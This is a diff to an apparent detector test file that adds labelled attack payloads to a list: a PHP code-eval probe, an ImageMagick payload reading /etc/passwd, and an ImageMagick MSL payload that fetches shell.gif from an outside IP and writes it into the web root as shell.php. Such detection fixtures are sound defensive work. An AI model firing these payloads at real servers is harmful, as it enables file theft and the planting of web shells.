@@ -148,6 +148,9 @@ const attacks: [string, string][] = [
   // scanners' probes: print the product of two literals and look for it in the page
   ['response.write(9273*8218)', 'code-eval'],
   ["';print(31337*31337);'", 'code-eval'],
+  [';print(md5(31337));', 'code-eval'],
+  ["push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'text:/etc/passwd'\npop graphic-context", 'code-imagemagick'],
+  ['<?xml version="1.0" encoding="UTF-8"?><image><read filename="https://203.0.113.9/shell.gif"/><write filename="/var/www/html/shell.php"/></image>', 'code-imagemagick'],
   ['Set s = Server.CreateObject("WScript.Shell")', 'code-com-object'],
   ['var sh = new ActiveXObject("Shell.Application");', 'code-com-object'],
   // Groovy: a string or a list of strings run as a command (Jenkins script console)
